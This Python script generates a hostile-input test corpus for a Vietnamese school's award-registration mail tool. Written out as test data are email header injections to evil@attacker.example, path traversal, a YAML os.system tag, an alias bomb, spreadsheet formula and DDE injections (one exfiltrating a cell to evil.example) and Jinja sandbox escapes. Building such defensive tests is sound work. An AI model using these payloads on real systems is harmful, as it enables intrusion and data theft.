"""Writes the hostile-input corpus's folders (tests/hostile/cases/<case>/): input files + expected.yaml.

The corpus is data: this script only saves typing (XLSX and binary inputs cannot be written by hand). A new
case is a new folder; run `uv run python -m tests.hostile.make_cases` to rewrite the generated ones.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path
from typing import Any

import yaml
from openpyxl import Workbook

CASES = Path(__file__).resolve().parent / "cases"
ROSTER_HEAD = ["Họ và tên", "Email", "Tổ", "Chức vụ", "Ngày vào làm"]
ROSTER = [
    ["Nguyễn Thị Lan", "lan@lax.example.edu.vn", "Toán", "Giáo viên", "1/9/2015"],
    ["Trần Văn Bình", "binh@lax.example.edu.vn", "Ngữ văn", "Giáo viên", "1/9/2016"],
    ["Lê Thị Cúc", "cuc@lax.example.edu.vn", "Văn phòng", "Nhân viên", "1/9/2017"],
]
F1_HEAD = ["Dấu thời gian", "Địa chỉ email", "Họ và tên", "Tổ", "Chức vụ", "Danh hiệu thi đua đăng ký",
           "Hình thức khen thưởng đề nghị", "Tên sáng kiến/đề tài (nếu có)"]
F2_HEAD = ["Dấu thời gian", "Địa chỉ email", "Tổ", "Số thành viên", "Danh hiệu tập thể đăng ký",
           "Nội dung giao ước thi đua"]


def f1(stamp: str = "1/3/2024 8:00:00", email: str = "lan@lax.example.edu.vn", name: str = "Nguyễn Thị Lan",
       team: str = "Toán", title: str = "Lao động tiên tiến") -> list[str]:
    return [stamp, email, name, team, "Giáo viên", title, "", ""]


def csv_text(rows: list[list[str]]) -> str:
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue()


def case(name: str, expected: dict[str, Any], files: dict[str, str | bytes] | None = None) -> None:
    folder = CASES / name
    if folder.exists():
        shutil.rmtree(folder)
    folder.mkdir(parents=True)
    for file_name, content in (files or {}).items():
        data = content.encode("utf-8") if isinstance(content, str) else content
        (folder / file_name).write_bytes(data)
    (folder / "expected.yaml").write_text(yaml.safe_dump(expected, allow_unicode=True, sort_keys=False,
                                                         width=200), encoding="utf-8")


def plan_case(name: str, why: str, edits: list[list[str]], refused: list[str] | None = None,
              line: int | None = None, **extra: Any) -> None:
    expected: dict[str, Any] = {"kind": "plan", "class": extra.pop("klass", "plan"), "why": why, "edits": edits}
    expected |= {"refused": refused} if refused else {"accepted": True}
    if line:
        expected["line"] = line
    expected |= extra
    case(f"plan-{name}", expected)


def plan_file_case(name: str, why: str, data: bytes, refused: list[str], **extra: Any) -> None:
    case(f"plan-{name}", {"kind": "plan", "class": "plan", "why": why, "refused": refused, **extra},
         {"plan.bin": data})


def rows_case(name: str, why: str, files: dict[str, str | bytes], klass: str = "export", **expected: Any) -> None:
    case(f"rows-{name}", {"kind": "rows", "class": klass, "why": why, **expected}, files)


RECIPIENT = "    email: thuongtruc.tdkt@tanphu.example.gov.vn"


def plans() -> None:
    bad_addresses = {
        "display-name-evil": ("'\"thuongtruc.tdkt@tanphu.example.gov.vn\" <evil@attacker.example>'", "tên hiển thị"),
        "angle-brackets": ("<evil@attacker.example>", "tên hiển thị"),
        "comma-list": ("a@tanphu.example.gov.vn, b@tanphu.example.gov.vn", "nhiều hơn một địa chỉ"),
        "semicolon-list": ("a@tanphu.example.gov.vn;b@tanphu.example.gov.vn", "nhiều hơn một địa chỉ"),
        "no-at": ("thuongtruc.tanphu.example.gov.vn", "thiếu dấu @"),
        "two-at": ("a@b@tanphu.example.gov.vn", "nhiều hơn một địa chỉ"),
        "space-in-domain": ("thuongtruc@tanphu example.gov.vn", "khoảng trắng"),
        "crlf-bcc": ('"thuongtruc@tanphu.example.gov.vn\\r\\nBcc: evil@attacker.example"', "xuống dòng"),
        "cyrillic-a": ("thuongtruc@tаnphu.example.gov.vn", "CYRILLIC SMALL LETTER A"),
        "greek-omicron": ("thuongtruc@tanphu.example.gοv.vn", "GREEK SMALL LETTER OMICRON"),
        "punycode-domain": ("thuongtruc@xn--tnphu-4ve.example.gov.vn", "xn--"),
        "fullwidth-at": ("thuongtruc＠tanphu.example.gov.vn", "FULLWIDTH COMMERCIAL AT"),
        "zero-width-space": ("thuong\u200btruc@tanphu.example.gov.vn", "U+200B"),
        "trailing-dot-domain": ("thuongtruc@tanphu.example.gov.vn.", "không phải địa chỉ email hợp lệ"),
        "quoted-local": ("'\"evil thing\"@tanphu.example.gov.vn'", "tên hiển thị"),
        "domain-literal": ("a@[127.0.0.1]", "không phải địa chỉ email hợp lệ"),
        "empty": ('""', "chưa ghi địa chỉ email"),
    }
    for name, (address, says) in bad_addresses.items():
        plan_case(f"recipient-{name}", "A recipient address must be exactly one plain address",
                  [[RECIPIENT, f"    email: {address}"]], [says, "recipients[0].email"], line=51, klass="plan-address")
    for field, old, new in (
            ("sender", "  sender: vanthu@lax.example.edu.vn", "  sender: '\"Văn thư\" <vanthu@lax.example.edu.vn>'"),
            ("clerk", "  email: vanthu@lax.example.edu.vn", "  email: vanthu@lax.example.edu.vn, x@evil.example"),
            ("signer", "  email: hieutruong@lax.example.edu.vn", "  email: hieutruong@lаx.example.edu.vn"),
            ("team-head", "    head_email: gv.toan.tt@lax.example.edu.vn",
             "    head_email: Tổ trưởng <gv.toan.tt@lax.example.edu.vn>")):
        plan_case(f"{field}-address", f"The {field}'s address is checked like a recipient's", [[old, new]],
                  ["địa chỉ email"], klass="plan-address")
    plan_case("email-domain-space", "The school's domain makes every roster address", [
        ["  email_domain: lax.example.edu.vn", "  email_domain: lax example.edu.vn"]], ["tên miền"], line=13)
    header_fields = {
        "sender-name-crlf": ("  sender_name: Trường THCS Lê Anh Xuân",
                             '  sender_name: "Trường THCS\\r\\nBcc: evil@attacker.example"'),
        "sender-name-lf": ("  sender_name: Trường THCS Lê Anh Xuân", '  sender_name: "Trường THCS\\nX-Evil: 1"'),
        "deadline-title-crlf": ("    title: Đăng ký giao ước thi đua và danh hiệu thi đua năm 2024",
                                '    title: "Đăng ký\\r\\nBcc: evil@attacker.example"'),
        "school-name-nul": ("  name: Trường Trung học cơ sở Lê Anh Xuân", '  name: "Trường\\0 Lê Anh Xuân"'),
        "recipient-name-cr": ("    name: Thường trực Hội đồng Thi đua – Khen thưởng quận Tân Phú",
                              '    name: "Thường trực\\rBcc: x@y.z"'),
        "signer-name-tab": ("  name: Mai Thanh Bình", '  name: "Mai\\tThanh Bình"'),
        "title-rtl-override": ("    title: Đăng ký giao ước thi đua và danh hiệu thi đua năm 2024",
                               '    title: "Đăng ký \\u202Efdp.exe"'),
        "title-zero-width": ("    title: Đăng ký giao ước thi đua và danh hiệu thi đua năm 2024",
                             '    title: "Đăng ký\\u200b giao ước"'),
        "line-separator": ("  sender_name: Trường THCS Lê Anh Xuân", '  sender_name: "Trường\\u2028THCS"'),
    }
    for name, (old, new) in header_fields.items():
        plan_case(name, "Text that becomes a mail header or a file name has no control or invisible character",
                  [[old, new]], ["ký tự điều khiển hoặc ký tự ẩn"], klass="plan-header")
    plan_case("deadline-title-slash", "A deadline title names the attachment", [[
        "    title: Đăng ký giao ước thi đua và danh hiệu thi đua năm 2024", "    title: Đăng ký 2024/2025"]],
        ["không được chứa «/»", "deadlines[0].title"], klass="plan-header")
    ids = {
        "plan-id-dotdot": ("id: le-anh-xuan-2024", "id: ../../etc", "le-anh-xuan-2024"),
        "plan-id-slash": ("id: le-anh-xuan-2024", "id: truong/le-anh-xuan", ""),
        "plan-id-space": ("id: le-anh-xuan-2024", "id: le anh xuan", ""),
        "deadline-id-space": ("  - id: D1\n", "  - id: D 1\n", ""),
        "deadline-id-dotdot": ("  - id: D1\n", "  - id: ../D1\n", ""),
        "team-id-unicode": ("  - id: toan\n", "  - id: toán\n", ""),
        "source-id-slash": ("  - id: F1\n", "  - id: F1/../x\n", ""),
        "title-code-slash": ("    - id: LDTT\n", "    - id: LD/TT\n", ""),
        "recipient-id-space": ("  - id: hdtdkt-quan\n", "  - id: hdtdkt quan\n", ""),
        "phase-id-backslash": ("  - id: dot1\n", "  - id: 'dot1\\..'\n", ""),
        "symbol-slash": ("  symbol: LAX", "  symbol: LAX/BC", ""),
    }
    for name, (old, new, _) in ids.items():
        plan_case(name, "Ids name files, folders, ledger keys and deployments: safe slugs only", [[old, new]],
                  ["chỉ được gồm chữ cái không dấu"], klass="plan-path")
    for name, template in (("template-dotdot", "../../../tmp/registration.docx"),
                           ("template-absolute", "/etc/passwd"), ("template-home", "~/registration.docx"),
                           ("template-windows", "C:\\\\x\\\\registration.docx")):
        plan_case(name, "`template:` names a file inside the templates folder", [[
            "    template: registration.docx", f"    template: '{template}'"]], ["phải là tên tệp trong thư mục mẫu"],
            klass="plan-path")
    plan_case("template-subfolder", "A template in a sub-folder of the templates folder is fine", [[
        "    template: registration.docx", "    template: 2024/registration.docx"]], klass="plan-path")
    for name, zone in (("timezone-unknown", "Asia/Hanoi_City"), ("timezone-path", "../../etc/passwd"),
                       ("timezone-empty", "''")):
        plan_case(name, "An unknown time zone is refused by check, not on the send morning", [[
            "timezone: Asia/Ho_Chi_Minh", f"timezone: {zone}"]], ["múi giờ"], line=5)
    plan_case("duplicate-deadlines-key", "Two top-level deadlines: keys (YAML keeps the last)", [],
              ["khóa «deadlines» bị lặp"], append="deadlines: []\n")
    plan_case("duplicate-nested-key", "A key written twice inside a mapping", [[
        "  margin_days: 1\n", "  margin_days: 1\n  margin_days: 5\n"]], ["khóa «margin_days» bị lặp"], line=35)
    plan_case("duplicate-alias-key", "team_aliases with one spelling twice", [[
        "  Văn phòng trường: van-phong\n", "  Văn phòng trường: van-phong\n  Văn phòng trường: toan\n"]],
        ["bị lặp"])
    plan_case("alias-is-another-teams-name", "team_aliases {Toán: khtn} would move Toán's staff", [[
        "  Văn phòng trường: van-phong\n", "  Văn phòng trường: van-phong\n  Toán: khtn\n"]],
        ["trùng với", "tổ toan"])
    plan_case("alias-on-two-teams", "One alias listed on two teams", [[
        "    aliases: [Toán học]", "    aliases: [Toán học, KHTN]"]], ["«KHTN»", "trùng với"])
    plan_case("alias-folds-to-other-team", "An alias that folds (no diacritics) to another team's name", [[
        "    aliases: [Toán học]", "    aliases: [Toán học, ngu van]"]], ["trùng với"])
    plan_case("alias-equals-other-team-id", "An alias equal to another team's id", [[
        "  Văn phòng trường: van-phong\n", "  Văn phòng trường: van-phong\n  khtn: toan\n"]], ["trùng với"])
    plan_case("duplicate-team-id-line", "A duplicate team id points at its own line", [[
        "  - id: toan\n", "  - id: ngu-van\n"]], ["bị trùng trong teams", "teams[1].id"], line=81)
    plan_case("unknown-recipient-line", "An unknown recipient points at the deadline's line", [[
        "    recipients: [hdtdkt-quan]", "    recipients: [hdtdkt-quan, so-gddt]"]],
        ["«so-gddt»", "deadlines[0].recipients[1]"])
    plan_case("year-as-text", "Pydantic's int error, in Vietnamese", [["year: 2024", "year: hai nghìn"]],
              ["cần một số nguyên"], line=4, absent=["Input should"])
    plan_case("reminder-days-scalar", "A tuple given as a number", [[
        "  reminder_days: [7, 3]", "  reminder_days: 7"]], ["cần một danh sách"], absent=["valid tuple"])
    plan_case("margin-days-too-big", "A bound with its number", [["  margin_days: 1\n", "  margin_days: 99\n"]],
              ["giá trị quá lớn (cần tối đa 60)"], line=35)
    plan_case("kind-unknown", "An enum error lists the choices", [["    kind: registration", "    kind: dang-ky"]],
              ["chọn một trong"], absent=["Input should"])
    plan_case("school-is-list", "A mapping given as a list", [[
        "  name: Trường Trung học cơ sở Lê Anh Xuân", "  - Trường Trung học cơ sở Lê Anh Xuân"]],
        ["lỗi cú pháp YAML"])
    plan_case("teams-as-mapping", "A list given as a mapping",
              [["teams:\n  - id: ngu-van", "teams:\n  x:\n  - id: ngu-van"]],
              ["dòng"], absent=["Input should"])
    plan_case("yaml-tab-indent", "A tab in the indentation", [["  margin_days: 1\n", "\tmargin_days: 1\n"]],
              ["tab"], absent=["found character"])
    plan_case("yaml-unclosed-quote", "An unclosed quote", [["  sender_name: Trường THCS Lê Anh Xuân",
                                                            '  sender_name: "Trường THCS Lê Anh Xuân']],
              ["lỗi cú pháp YAML"])
    plan_case("unknown-field", "A misspelt field", [["  margin_days: 1\n", "  margin_day: 1\n"]],
              ["trường không được hỗ trợ"], line=35)
    plan_case("seed", "The seed plan is accepted", [])
    # Limits and encodings: whole files.
    plan_file_case("alias-bomb", "A billion-laughs alias bomb is refused fast",
                   ("a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
                       f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
                       f"*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, "
                       f"*{chr(97 + i)}, *{chr(97 + i)}]\n" for i in range(9))).encode(),
                   ["tham chiếu YAML"], max_seconds=2)
    plan_file_case("deep-list", "A 5000-deep list", ("x: " + "[" * 5000 + "]" * 5000 + "\n").encode(),
                   ["lồng quá sâu"], max_seconds=5)
    plan_file_case("deep-mapping", "A 60-deep mapping", ("".join("  " * i + f"k{i}:\n" for i in range(60))
                                                          + "  " * 60 + "v: 1\n").encode(), ["lồng quá sâu"])
    plan_file_case("utf16", "A plan saved as UTF-16", "id: x\n".encode("utf-16"), ["UTF-16"])
    plan_file_case("latin1", "A plan saved as Latin-1/Windows-1258", "id: café\n".encode("latin-1"),
                   ["không phải văn bản UTF-8", "dòng 1"])
    plan_file_case("png", "A picture given as the plan", b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
                   ["không phải tệp văn bản YAML"])
    plan_file_case("pdf", "A PDF given as the plan", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
                   ["không phải tệp văn bản"])
    plan_file_case("huge", "A 300 kB file", b"# " + b"x" * 300_000 + b"\n", ["tệp quá lớn"])
    plan_file_case("nul-in-text", "A NUL byte in the text", b"id: x\x00y\n", ["không phải tệp văn bản"])
    plan_file_case("scalar", "A plan that is one word", b"hello\n", ["bảng khóa: giá trị"])
    plan_file_case("empty", "An empty plan", b"", ["bảng khóa: giá trị"])
    plan_file_case("python-tag", "A YAML tag that would build a Python object",
                   b"id: !!python/object/apply:os.system ['touch /tmp/thidua-pwned']\n", ["lỗi cú pháp YAML"])


def rows() -> None:
    roster = csv_text([ROSTER_HEAD, *ROSTER])
    good = [f1(), f1("2/3/2024 9:00:00", "binh@lax.example.edu.vn", "Trần Văn Bình", "Ngữ văn")]

    def f1_case(name: str, why: str, lines: list[list[str]], head: list[str] = F1_HEAD, klass: str = "answer",
                **expected: Any) -> None:
        rows_case(name, why, {"roster.csv": roster, "F1.csv": csv_text([head, *lines])}, klass=klass, **expected)

    # Timestamps.
    f1_case("us-dates-contradicted", "m/d stamps in a d/m sheet: one only reads m/d, so every two-way one is a "
            "reject (not 3 October, dropped by the cutoff)", [
                f1("3/13/2024 8:00:00"), f1("3/10/2024 8:00:00", "binh@lax.example.edu.vn", "Trần Văn Bình",
                                            "Ngữ văn")],
            as_of="2024-03-14T08:00:00+07:00", kept={"F1": 0}, rejected_rows={"F1": 2},
            reasons=["chỉ đọc được theo thứ tự m/d/yyyy", "đọc được cả hai cách"])
    f1_case("us-dates-declared", "The same stamps with date_order m/d/yyyy in the plan are read", [
        f1("3/13/2024 8:00:00"), f1("3/10/2024 8:00:00", "binh@lax.example.edu.vn", "Trần Văn Bình", "Ngữ văn")],
        edits=[["    file: F1_dang_ky_ca_nhan.csv\n", "    file: F1_dang_ky_ca_nhan.csv\n    date_order: m/d/yyyy\n"]],
        as_of="2024-03-14T08:00:00+07:00", kept={"F1": 2}, rejected_rows={"F1": 0})
    f1_case("year-2204", "An impossible year is a reject, not a row after the cutoff", [
        f1("1/3/2204 8:00:00"), good[1]], as_of="2024-03-14T08:00:00+07:00", kept={"F1": 1}, rejected_rows={"F1": 1},
        reasons=["năm 2204 không hợp lý"])
    f1_case("year-1999", "A year long before the plan", [f1("1/3/1999 8:00:00")], kept={"F1": 0},
            rejected_rows={"F1": 1}, reasons=["năm 1999 không hợp lý"])
    f1_case("month-13", "A month that does not exist in either order", [f1("13/13/2024 8:00:00")], kept={"F1": 0},
            rejected_rows={"F1": 1}, reasons=["không đọc được"])
    f1_case("feb-30", "A day that does not exist", [f1("30/2/2024 8:00:00")], kept={"F1": 0},
            rejected_rows={"F1": 1}, reasons=["không đọc được"])
    f1_case("stamp-words", "Words where the stamp should be", [f1("hôm qua")], kept={"F1": 0},
            rejected_rows={"F1": 1}, reasons=["«hôm qua» không đọc được"])
    f1_case("stamp-empty", "No stamp at all", [f1("")], kept={"F1": 0}, rejected_rows={"F1": 1},
            reasons=["Thiếu câu trả lời cho «Dấu thời gian»"])
    f1_case("stamp-iso", "An ISO stamp (XLSX) reads in any order", [f1("2024-03-01 08:00:00")], kept={"F1": 1})
    f1_case("stamp-same-day-month", "5/5 reads the same both ways, even in a contradicted sheet", [
        f1("5/5/2024 8:00:00"), f1("3/13/2024 8:00:00", "binh@lax.example.edu.vn", "Trần Văn Bình", "Ngữ văn")],
        kept={"F1": 1}, rejected_rows={"F1": 1})
    f1_case("stamp-after-cutoff", "A good stamp after the cutoff did not exist yet (not a reject)", [
        f1("20/3/2024 8:00:00"), good[1]], as_of="2024-03-14T08:00:00+07:00", kept={"F1": 1}, read={"F1": 1})
    # CSV structure.
    base = csv_text([F1_HEAD, *good])
    for name, text, says in (
            ("unclosed-quote", base.replace("Nguyễn Thị Lan", '"Nguyễn Thị Lan'), "mở mà không đóng"),
            ("quote-mid-cell", base.replace("Nguyễn Thị Lan", 'Nguyễn "Lan" x').replace(
                'Nguyễn "Lan" x', '"Nguyễn" Lan'), "đặt sai chỗ"),
            ("extra-cells", base + "\r\n1/3/2024 8:00:00,a,b,c,d,e,f,g,h,i,j", "nhiều hơn 8 cột"),
            ("huge-cell", csv_text([F1_HEAD, f1(name="x" * 150_000)]), "dài hơn"),
                        ("not-utf8", None, "không phải văn bản UTF-8")):
        data: str | bytes = text if text is not None else base.encode("cp1258", errors="replace")
        rows_case(f"csv-{name}", "A CSV whose structure breaks is refused whole, naming the line",
                  {"roster.csv": roster, "F1.csv": data}, refused=[says, "F1.csv"])
    # Answers.
    for name, char in (("esc", "\x1b"), ("nul-xlsx-safe", "\x01"), ("fffe", "\ufffe"), ("c1", "\x85"),
                       ("vertical-tab", "\x0b")):
        f1_case(f"control-{name}", "A control character is removed (and counted), the row kept", [
            f1(name=f"Nguyễn{char} Thị Lan"), good[1]], kept={"F1": 2}, controls_removed=1)
    f1_case("nul-in-csv", "A NUL byte in a CSV cell is removed and counted", [f1(team="To\x00án"), good[1]],
            kept={"F1": 2}, controls_removed=1)
    f1_case("formula-in-name", "A whole-cell formula is a reject", [f1(name='=HYPERLINK("http://x","y")'), good[1]],
            kept={"F1": 1}, reasons=["công thức"])
    f1_case("jinja-in-name", "Jinja in an answer is text", [f1(name="{{ signer_name }}"), good[1]], kept={"F1": 2})
    f1_case("xml-in-name", "XML in an answer is text", [f1(name="<w:p>&amp;</w:p>"), good[1]], kept={"F1": 2})
    f1_case("header-nfd", "A header typed in NFD matches the plan's NFC", [f1(), good[1]],
            head=[h.replace("Họ và tên", "Ho\u0323 và tên") for h in F1_HEAD], kept={"F1": 2})
    f1_case("header-zero-width", "A zero-width space in a header is dropped", [f1(), good[1]],
            head=[h.replace("Tổ", "Tổ\u200b") for h in F1_HEAD], kept={"F1": 2})
    f1_case("header-rtl-mark", "A right-to-left mark in a header is dropped", [f1(), good[1]],
            head=[h.replace("Địa chỉ email", "\u200fĐịa chỉ email") for h in F1_HEAD], kept={"F1": 2})
    f1_case("header-renamed-lookalike", "A header that differs visibly gets a message showing it", [f1()],
            head=[h.replace("Họ và tên", "Họ và tên\u0301x") for h in F1_HEAD],
            refused=["thiếu cột", "«Họ và tên»"])
    f1_case("header-twice", "A mapped header used twice stops the source, naming both columns", [
        [*f1(), "Nguyễn Thị Lan"]], head=[*F1_HEAD[:-1], F1_HEAD[-1], "Họ và tên"],
        refused=["«Họ và tên» xuất hiện 2 lần", "cột C, I"])
    rows_case("pledge-dash-formula", "A pledge line '- =WEBSERVICE(…)' is a formula once its dash is stripped", {
        "roster.csv": roster, "F2.csv": csv_text([F2_HEAD, [
            "1/3/2024 8:00:00", "gv.toan.tt@lax.example.edu.vn", "Toán", "10", "Tập thể lao động tiên tiến",
            '- Dạy tốt\n- =WEBSERVICE("http://evil.example/?x="&A1)']])}, klass="answer",
        kept={"F2": 0}, reasons=["giao ước trông như công thức"])
    rows_case("pledge-plain", "Plain pledges are kept", {
        "roster.csv": roster, "F2.csv": csv_text([F2_HEAD, [
            "1/3/2024 8:00:00", "gv.toan.tt@lax.example.edu.vn", "Toán", "10", "Tập thể lao động tiên tiến",
            "- Dạy tốt\n- Học tốt"]])}, klass="answer", kept={"F2": 1})
    # Roster cells.
    for name, cell, says in (
            ("display-name", '"lan@lax.example.edu.vn" <outsider@evil.example>', "tên hiển thị"),
            ("two-addresses", "lan@lax.example.edu.vn, binh@lax.example.edu.vn", "nhiều hơn một địa chỉ"),
            ("look-alike", "lan@lаx.example.edu.vn", "CYRILLIC"),
            ("newline", "lan@lax.example.edu.vn\nbcc@evil.example", "nhiều hơn một địa chỉ"),
            ("no-at", "lan.lax.example.edu.vn", "thiếu dấu @")):
        rows_case(f"roster-{name}", "A roster cell that is not one plain address is a reject and gets no reminder", {
            "roster.csv": csv_text([ROSTER_HEAD, [ROSTER[0][0], cell, *ROSTER[0][2:]], *ROSTER[1:]])},
            klass="roster", kept={"roster": 2}, reasons=[says], reminded=[
                "binh@lax.example.edu.vn", "cuc@lax.example.edu.vn", "gv.khtn.tt@lax.example.edu.vn",
                "gv.ngoaingu.tt@lax.example.edu.vn", "gv.nguvan.tt@lax.example.edu.vn",
                "gv.gdtcnt.tt@lax.example.edu.vn", "gv.sudia.tt@lax.example.edu.vn",
                "gv.tincn.tt@lax.example.edu.vn", "gv.toan.tt@lax.example.edu.vn", "vp.tt@lax.example.edu.vn"])
    rows_case("roster-mixed-case", "A mixed-case, padded roster address is repaired, not refused", {
        "roster.csv": csv_text([ROSTER_HEAD, [ROSTER[0][0], " LAN@Lax.Example.edu.vn ", *ROSTER[0][2:]],
                                *ROSTER[1:]])}, klass="roster", kept={"roster": 3})
    # XLSX: merged cells and formulas without saved values.
    rows_case("xlsx-merged-team", "Merged team cells: the rows under the first are told why they read empty", {
        "roster.csv": roster, "F1.xlsx": xlsx([F1_HEAD, f1(), f1("2/3/2024 9:00:00", "binh@lax.example.edu.vn",
                                                                  "Trần Văn Bình", "")], merge="D2:D3")},
        kept={"F1": 1}, reasons=["vùng ô gộp D2:D3"])
    rows_case("xlsx-formula-unsaved", "A formula never computed is told as such, not as a missing answer", {
        "roster.csv": roster, "F1.xlsx": xlsx([F1_HEAD, f1(name='=CONCATENATE("Nguyễn ","Lan")'), good[1]])},
        kept={"F1": 1}, reasons=["công thức chưa có giá trị đã lưu"])
    rows_case("xlsx-not-a-zip", "A CSV renamed .xlsx", {"roster.csv": roster, "F1.xlsx": base},
              refused=["tệp hỏng hoặc không phải .xlsx"])


def xlsx(grid: list[list[str]], merge: str = "") -> bytes:
    from openpyxl.cell.cell import Cell

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "Câu trả lời biểu mẫu 1"
    for r, line in enumerate(grid, start=1):
        for c, value in enumerate(line, start=1):
            cell: Cell = sheet.cell(row=r, column=c, value=value)  # type: ignore[assignment]
            if not value.startswith("="):
                cell.data_type = "s"
    if merge:
        sheet.merge_cells(merge)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def annex() -> None:
    for name, text in (("equals", "=1+1"), ("webservice", '=WEBSERVICE("http://evil.example/")'),
                       ("plus", "+1+cmd|' /C calc'!A0"), ("minus-digit", "-5+cmd|' /C calc'!A0"),
                       ("at", "@SUM(1,1)"), ("tab", "\t=1+1"), ("cr", "\r=1+1"), ("lf", "\n=1"),
                       ("fullwidth-equals", "＝1+1"), ("dde", "=cmd|'/c calc'!A1"),
                       ("hyperlink", '=HYPERLINK("http://evil.example","bấm vào")'), ("plain", "Nguyễn Thị Lan"),
                       ("inner-equals", "Điểm = 9,5")):
        case(f"annex-{name}", {"kind": "annex", "class": "annex", "why": "Every text cell a person opens is inert",
                               "text": text, "neutralised": text[:1] in "=+-@\t\r\n＝"})


def templates() -> None:
    lines = {
        "mro-subclasses": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "cycler-globals": "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}",
        "joiner-globals": "{{ joiner.__init__.__globals__ }}",
        "namespace-init": "{{ namespace.__init__ }}",
        "item-dunder": "{{ title['__class__'] }}",
        "set-globals": "{% set g = lipsum.__globals__ %}{{ g }}",
        "format-string": '{{ "{0.__class__.__mro__}".format(title) }}',
        "attr-filter": "{{ title|attr('__class__') }}",
        "self-tmpl": "{{ self.__init__.__globals__ }}",
    }
    for name, line in lines.items():
        case(f"template-{name}", {"kind": "template", "class": "template", "why": "A template cannot reach Python",
                                  "line": line})


def credentials() -> None:
    pem = "-----BEGIN PRIVATE KEY-----\nMIIEMARKERc0ffee\n-----END PRIVATE KEY-----\n"
    account = json.dumps({"type": "service_account", "private_key": pem, "client_email": "a@b.iam.example",
                          "token_uri": "http://127.0.0.1:9/token"})
    for name, raw, says in (
            ("bare-pem", pem, "khóa PEM trần"), ("quoted-pem", json.dumps(pem), "khóa PEM trần"),
            ("truncated-json", account[:-5], "không phải JSON hợp lệ"),
            ("long-blob", "MARKERc0ffee" * 500, "không phải JSON cũng không phải đường dẫn"),
            ("json-list", "[1,2]", "không phải JSON cũng không phải đường dẫn"),
            ("missing-file", "/nonexistent/MARKERc0ffee.json", "không có tệp này")):
        case(f"secret-{name}", {"kind": "credentials", "class": "secret", "why": "Refused without echoing the key",
                                "refused": [says], "marker": "MARKERc0ffee"}, {"raw.txt": raw})
    for name, raw in (("dotenv-quoted", json.dumps(account)), ("single-quoted", f"'{account}'"),
                      ("plain-json", account)):
        case(f"secret-{name}", {"kind": "credentials", "class": "secret", "why": "The JSON in any shape .env gives",
                                "accepted": True, "marker": "MARKERc0ffee"}, {"raw.txt": raw})


def _truncated_sqlite() -> bytes:
    """A real SQLite ledger cut short, as a disk or a copy that died halfway leaves it."""
    import sqlite3
    import tempfile

    with tempfile.TemporaryDirectory() as work:
        path = Path(work) / "deliveries.sqlite"
        connection = sqlite3.connect(path)
        connection.executescript("CREATE TABLE t(x); INSERT INTO t VALUES (zeroblob(100000));")
        connection.close()
        return path.read_bytes()[:1500]


def _foreign_sqlite() -> bytes:
    """A SQLite file with a `deliveries` table of another shape (another program's, or an old thidua's)."""
    import sqlite3
    import tempfile

    with tempfile.TemporaryDirectory() as work:
        path = Path(work) / "deliveries.sqlite"
        connection = sqlite3.connect(path)
        connection.executescript("CREATE TABLE deliveries(id INTEGER PRIMARY KEY, note TEXT);"
                                 "INSERT INTO deliveries(note) VALUES ('gửi rồi');")
        connection.close()
        return path.read_bytes()


DISTRICT = "thuongtruc.tdkt@tanphu.hochiminhcity.gov.vn"
PGD = "pgddt@tanphu.edu.vn"
DAMAGED = "Sổ gửi thư (ledger) hỏng"


def deliveries() -> None:
    """The ledger, the mail server and a kill -9 as the state they leave: one delivery key, runs of deliver_once."""
    def delivery_case(name: str, klass: str, why: str, expected: dict[str, Any],
                      files: dict[str, str | bytes] | None = None) -> None:
        case(f"{klass}-{name}", {"kind": "delivery", "class": klass, "why": why, **expected}, files)

    # Ledger damage: a file that is not the ledger stops the send before anything leaves.
    delivery_case("garbage", "ledger", "A ledger file of random bytes is refused; nothing sent",
                  {"runs": 1, "raises": "damaged", "says": [DAMAGED, "không gửi gì"], "received": 0},
                  {"deliveries.sqlite": b"\x13\x37" * 2000})
    delivery_case("truncated", "ledger", "A ledger cut short is refused; nothing sent",
                  {"runs": 1, "raises": "damaged", "says": [DAMAGED], "received": 0},
                  {"deliveries.sqlite": _truncated_sqlite()})
    delivery_case("foreign-table", "ledger", "A deliveries table of another shape is refused, not overwritten",
                  {"runs": 1, "raises": "damaged", "says": [DAMAGED], "received": 0},
                  {"deliveries.sqlite": _foreign_sqlite()})
    delivery_case("empty-file", "ledger", "A zero-byte ledger is a new one: sent once",
                  {"runs": 2, "statuses": ["sent", "already_sent"], "received": 1, "ledger_state": "sent"},
                  {"deliveries.sqlite": b""})
    delivery_case("lost-mailbox-has-it", "ledger", "A lost ledger finds the report in the mailbox: nothing sent",
                  {"in_mailbox": True, "runs": 1, "statuses": ["found_in_mailbox"], "received": 0,
                   "ledger_state": "sent"})
    delivery_case("says-sent", "ledger", "The ledger says sent: nothing sent again, however often it runs",
                  {"before": "sent", "runs": 3, "statuses": ["already_sent"] * 3, "received": 0,
                   "ledger_state": "sent"})
    delivery_case("other-message-id", "ledger", "The ledger holds the key under another Message-ID: refused",
                  {"before": "other-message-id", "runs": 1, "raises": "DeliveryConflict",
                   "says": ["Message-ID", "không gửi để tránh trùng"], "received": 0})

    # Mail server faults.
    delivery_case("one-of-two-refused", "mail", "A recipient answered 550 is a failed delivery to it, every run",
                  {"recipients": [DISTRICT, PGD], "refused": [PGD], "runs": 3, "raises": "DeliveryPartlyRefused",
                   "says": [PGD, "thidua resend"], "received": 1, "ledger_state": "sent",
                   "ledger_recipients": [DISTRICT]})
    delivery_case("all-refused", "mail", "Every recipient refused: nothing arrives, nothing recorded as sent",
                  {"refused": [DISTRICT], "runs": 1, "raises": "MailRejected", "received": 0,
                   "ledger_state": "absent"})
    delivery_case("server-down-then-up", "mail", "SMTP down: nothing lost; the next run sends at once, once",
                  {"down_runs": [1], "runs": 3, "raises_first": "MailServerUnreachable",
                   "statuses": [None, "sent", "already_sent"], "received": 1, "ledger_state": "sent"})
